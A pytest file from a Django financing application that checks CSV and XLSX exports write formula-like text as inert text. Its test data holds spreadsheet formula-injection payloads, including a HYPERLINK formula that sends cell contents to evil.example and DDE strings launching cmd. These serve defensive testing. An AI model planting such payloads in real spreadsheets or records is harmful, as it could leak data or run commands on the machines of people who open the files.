"""Spreadsheet exports never carry a live formula (issue 19, point 4).

Text beginning with = + - @, a tab or a carriage return is written as text: in CSV behind
an apostrophe, in XLSX as a string cell with the quote prefix. One test per export, each
reading the real file back.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core.exports import csv_row, csv_safe, xlsx_append
from financing import services
from tests.financing.factories import make_plan
from tests.projects.factories import OrganisationFactory, ProjectFactory, co_financing_case

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_helpers_write_formula_like_text_as_text(text):
    assert csv_safe(text) == "'" + text
    assert csv_row([text, 5, "Arctic Solar"]) == ["'" + text, 5, "Arctic Solar"]
    workbook = Workbook()
    xlsx_append(workbook.active, [text, 5, Decimal("1.5")])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    assert cells[0].data_type == "s" and cells[0].value == text and cells[0].quotePrefix
    assert cells[1].value == 5 and cells[1].data_type == "n"


def test_rows_are_appended_without_measuring_the_sheet(monkeypatch):
    """``xlsx_append`` never reads the sheet's size (openpyxl counts every cell for it):
    per row, that made a year's 5 000 commitments take 11 s to export."""
    from openpyxl.worksheet.worksheet import Worksheet

    measured = []
    for name in ("max_row", "max_column"):
        real = getattr(Worksheet, name)
        monkeypatch.setattr(
            Worksheet,
            name,
            property(lambda sheet, real=real: measured.append(1) or real.fget(sheet)),
        )
    sheet = Workbook().active
    for n in range(3):
        xlsx_append(sheet, [f"=x{n}", n])
    assert measured == []
    assert sheet["A3"].value == "=x2" and sheet["A3"].quotePrefix and sheet["B3"].value == 2


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(cells, *texts):
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in texts:
        assert text in values, text
        assert values[text].data_type == "s" and values[text].quotePrefix


def test_case_list_csv(client_for, officer):
    applicant = OrganisationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
    project = ProjectFactory(title="x", applicant=applicant, owner=applicant)
    case = co_financing_case(officer=officer, project=project)
    case.title = '=HYPERLINK("http://evil.example","Klicka")'
    case.save(update_fields=["title"])
    response = client_for(officer).get(reverse("projects:case_list"), {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][2] == "'" + case.title
    assert rows[1][5] == "'" + applicant.name
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_dashboard_xlsx(client_for, controller, grant_2022):
    recipient = OrganisationFactory(name="+1+cmd|' /C calc'!A0")
    day = datetime.date(2022, 3, 1)
    services.commitment_record(
        user=controller,
        year=2022,
        category="business_support",
        amount=Decimal("10000"),
        committed_on=day,
        company_leader_gender="woman",
        recipient=recipient,
        description="=1+1",
        reference="-2+3",
    )
    response = client_for(controller).get(reverse("financing:dashboard_export"), {"year": 2022})
    assert response.status_code == 200
    _assert_no_formula(_xlsx_cells(response.content), recipient.name, "=1+1", "-2+3")


def test_plans_xlsx(client_for, officer, controller, grant_2020):
    financier = OrganisationFactory(name="@cmd")
    applicant = OrganisationFactory(name="\t=evil()")
    case = co_financing_case(officer=officer, title="=HYPERLINK(1)", applicant=applicant)
    make_plan(
        case,
        rows=[{"financier": financier, "funding_type": "eruf", "amount_applied": Decimal("1000")}],
    )
    response = client_for(controller).get(reverse("financing:plan_export"))
    assert response.status_code == 200
    _assert_no_formula(_xlsx_cells(response.content), "=HYPERLINK(1)", "@cmd", "\t=evil()")
